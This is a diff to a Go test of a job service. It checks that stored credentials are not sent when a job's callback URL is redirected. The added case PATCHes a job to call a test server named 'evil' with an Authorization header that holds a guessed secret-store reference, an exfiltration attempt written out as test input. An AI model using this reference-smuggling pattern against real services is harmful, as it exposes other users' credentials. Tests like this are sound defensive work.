@@ -97,6 +97,12 @@ func TestHiddenCredentialsStayWhereTheyWereGiven(t *testing.T) {
 		}
 	}
 
+	// The reference in the store can be guessed; it does not go along either.
+	j = call("")
+	dropped("guessed", ask(200, "PATCH", "/jobs/"+j.JobID, fmt.Sprintf(`{"execution": {"callback_url": %q, "headers": {"Authorization": "${secret:~%s/authorization}"}}}`, evil.URL, j.JobID)), header)
+	run(j, "")
+	leaks("guessed")
+
 	// Supplied again, it goes along.
 	j = call("")
 	got := ask(200, "PATCH", "/jobs/"+j.JobID, fmt.Sprintf(`{"execution": {"callback_url": %q, "headers": {"Authorization": "Bearer given-again"}}}`, evil.URL))
